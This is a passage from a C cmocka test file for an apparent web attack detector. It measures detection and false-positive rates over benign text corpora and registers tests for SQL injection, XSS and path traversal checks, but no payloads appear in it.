		print_message("%-20s %3zu/%3zu detected as %s (%.1f %%)\n", hclasses[k].file, hit,
			      c.n, threat_type_name(hclasses[k].type),
			      100.0 * (double)hit / (double)c.n);
		assert_true(c.n >= hclasses[k].min_lines);
		assert_true((double)hit >= hclasses[k].min_detect * (double)c.n);
		corpus_free(&c);
	}
	corpus_free(&km);
}

/* Every byte but unreserved ones as %XX: how a browser sends a typed search. */
static void encode_query(const char *s, char *out, size_t cap)
{
	static const char hex[] = "0123456789ABCDEF";
	size_t o = (size_t)snprintf(out, cap, "/search?q=");

	for (; *s && o + 4 < cap; s++) {
		unsigned char c = (unsigned char)*s;

		if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') ||
		    strchr("-._~", c)) {
			out[o++] = (char)c;
		} else {
			out[o++] = '%';
			out[o++] = hex[c >> 4];
			out[o++] = hex[c & 15];
		}
	}
	out[o] = '\0';
}

static void benign_file(const struct corpus *km, const char *file, bool as_query)
{
	struct corpus c;
	char tag[128], *target = malloc(3 * LINE_MAX_LEN + 16);
	size_t fp = 0;

	assert_non_null(target);
	corpus_load(&c, file);
	snprintf(tag, sizeof(tag), "http:%s", file);
	check_no_stale(km, tag, &c);
	for (size_t i = 0; i < c.n; i++) {
		size_t n;
		bool listed = known(km, tag, c.lines[i]);

		if (as_query)
			encode_query(c.lines[i], target, 3 * LINE_MAX_LEN + 16);
		else
			snprintf(target, 3 * LINE_MAX_LEN + 16, "%s", c.lines[i]);
		n = scan(target);
		if ((n > 0) != listed) {
			dump(target, n);
			fail_msg("%s: \"%s\" %s (known_misses.txt %s)", file, c.lines[i],
				 n ? "flagged" : "not flagged",
				 listed ? "lists it: remove it" : "does not list it");
		}
		fp += n > 0;
	}
	print_message("%-20s %3zu/%3zu flagged (%.2f %% false positives)\n", file, fp, c.n,
		      100.0 * (double)fp / (double)c.n);
	assert_true((double)fp <= 0.005 * (double)c.n);
	assert_true(c.n >= (as_query ? 850 : 190));
	corpus_free(&c);
	free(target);
}

static void test_corpus_benign(void **state)
{
	struct corpus km;

	(void)state;
	corpus_load(&km, "known_misses.txt");
	benign_file(&km, "http_benign.txt", false);
	benign_file(&km, "benign_text.txt", true);
	corpus_free(&km);
}

int main(int argc, char **argv)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_names),
		cmocka_unit_test(test_sqli),
		cmocka_unit_test(test_xss),
		cmocka_unit_test(test_traversal),
		cmocka_unit_test(test_sensitive),
		cmocka_unit_test(test_body),
		cmocka_unit_test(test_json_bounds),
		cmocka_unit_test(test_headers),
		cmocka_unit_test(test_hit_list),
		cmocka_unit_test(test_bounds),
		cmocka_unit_test(test_garbage),
		cmocka_unit_test(test_corpus_attacks),
		cmocka_unit_test(test_corpus_benign),
		cmocka_unit_test(test_inject_rules),
		cmocka_unit_test(test_inject_headers),
		cmocka_unit_test(test_inject_json),
	};

	(void)argc;
	find_data_dir(argv[0]);
	return cmocka_run_group_tests(tests, NULL, NULL);
}
